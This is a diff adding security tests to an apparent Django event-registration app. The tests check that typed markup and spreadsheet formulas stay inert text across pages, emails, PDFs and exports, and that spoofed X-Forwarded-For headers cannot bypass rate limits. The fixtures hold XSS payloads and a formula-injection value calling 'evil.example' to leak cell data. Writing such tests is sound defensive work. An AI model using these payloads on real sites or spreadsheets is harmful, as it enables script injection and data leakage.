@@ -1,5 +1,6 @@
 """Hostile input: what a person types stays text, and cannot steer the PDF renderer."""
 
+import csv
 import io
 
 import pytest
@@ -100,3 +101,129 @@ def test_the_registration_form_is_rate_limited_per_account(client):
     other.emailaddress_set.create(email=other.email, verified=True, primary=True)
     client.force_login(other)
     assert client.post("/en/register/", {}).status_code == 200  # counted per account
+
+
+SCRIPT = "<script>alert(1)</script>"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+
+
+@pytest.fixture
+def hostile_attendee(db):
+    """A registration whose every typed field is an attack, booked on a workshop."""
+    from events.models import Session
+    from registrations.models import WorkshopBooking
+    from tests.factories import RegistrationFactory, SessionFactory
+
+    event = EventFactory()
+    registration = RegistrationFactory(
+        event=event,
+        first_name="Zoé",
+        last_name=SCRIPT,
+        organisation=FORMULA,
+        job_title=f"<img src=x onerror=alert(2)>{SCRIPT}",
+        dietary_requirements=SCRIPT,
+        accessibility_needs=SCRIPT,
+    )
+    registration.user.emailaddress_set.create(email=registration.user.email, verified=True, primary=True)
+    workshop = SessionFactory(event=event, kind=Session.Kind.WORKSHOP, capacity=20)
+    WorkshopBooking.objects.create(registration=registration, session=workshop, status="booked")
+    return registration, workshop
+
+
+def assert_shown_as_text(html: str):
+    assert SCRIPT not in html and "<img src=x" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/en/my-registration/",
+        "/en/admin/registrations/registration/",
+        "/en/admin/registrations/registration/{pk}/change/",
+        "/en/admin/registrations/registration/catering/",
+        "/en/check-in/?q=Zoé",
+    ],
+)
+def test_typed_markup_is_shown_as_text_on_pages_and_in_the_admin(client, hostile_attendee, path):
+    registration, _ = hostile_attendee
+    who = registration.user if path.startswith("/en/my-") else UserFactory(is_staff=True, is_superuser=True)
+    client.force_login(who)
+    response = client.get(path.format(pk=registration.pk))
+    assert response.status_code == 200
+    assert_shown_as_text(response.content.decode())
+
+
+def test_typed_markup_is_text_in_the_confirmation_email(hostile_attendee):
+    from registrations.emails import build_message, queue_registration_email
+
+    registration, _ = hostile_attendee
+    registration.first_name = SCRIPT
+    message = build_message(queue_registration_email(registration, "confirmed"))
+    html, _ = message.alternatives[0]
+    assert_shown_as_text(html)
+
+
+def test_typed_markup_is_printed_as_text_on_the_sign_in_sheets(admin_client, hostile_attendee):
+    _, workshop = hostile_attendee
+    response = admin_client.post(
+        "/en/admin/events/session/", {"action": "sign_in_sheets", "_selected_action": [workshop.pk]}
+    )
+    assert response["Content-Type"] == "application/pdf"
+    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
+    # The sheet prints last names in capitals and may break the line anywhere.
+    assert "<SCRIPT>ALERT(1)</SCRIPT>" in "".join(text.upper().split())
+
+
+def csv_cells(response) -> list[str]:
+    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
+    return [cell for row in rows for cell in row]
+
+
+def test_a_typed_formula_stays_text_in_the_csv_and_excel_exports(admin_client, hostile_attendee):
+    from openpyxl import load_workbook
+
+    cells = csv_cells(admin_client.get("/en/admin/registrations/registration/export.csv"))
+    assert "'" + FORMULA in cells and FORMULA not in cells
+
+    workbook = load_workbook(io.BytesIO(admin_client.get("/en/admin/registrations/registration/export.xlsx").content))
+    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
+    assert cells and all(cell.data_type == "s" for cell in cells)  # "s": a string, not a formula
+
+
+def test_a_typed_formula_stays_text_in_the_workshop_attendee_list(admin_client, hostile_attendee):
+    _, workshop = hostile_attendee
+    response = admin_client.post(
+        "/en/admin/events/session/", {"action": "attendee_list", "_selected_action": [workshop.pk]}
+    )
+    cells = csv_cells(response)
+    assert "'" + FORMULA in cells and FORMULA not in cells
+
+
+@pytest.mark.parametrize(
+    ("path", "form", "allowed"),
+    [
+        # allauth's limits: 20 sign-ups a minute per address; 5 resets and 3 login codes a
+        # minute per e-mail address.
+        ("/en/accounts/signup/", {"email": "new{n}@example.org", "password1": "x", "password2": "y"}, 20),
+        ("/en/accounts/password/reset/", {"email": "cible@example.org"}, 5),
+        ("/en/accounts/login/code/", {"email": "cible@example.org"}, 3),
+    ],
+    ids=["sign-up", "password-reset", "login-code"],
+)
+def test_account_forms_are_rate_limited_whatever_the_forwarded_for_header(db, path, form, allowed):
+    from django.test import Client
+
+    UserFactory(email="cible@example.org").emailaddress_set.create(
+        email="cible@example.org", verified=True, primary=True
+    )
+
+    def refused(n: int) -> bool:
+        # A fresh browser each time (no session to tell them apart) and a made-up
+        # X-Forwarded-For: neither resets the count.
+        response = Client().post(
+            path, {k: v.format(n=n) for k, v in form.items()}, HTTP_X_FORWARDED_FOR=f"203.0.113.{n}"
+        )
+        return response.status_code == 429 or b"Too many" in response.content
+
+    assert [refused(n) for n in range(allowed + 1)] == [False] * allowed + [True]
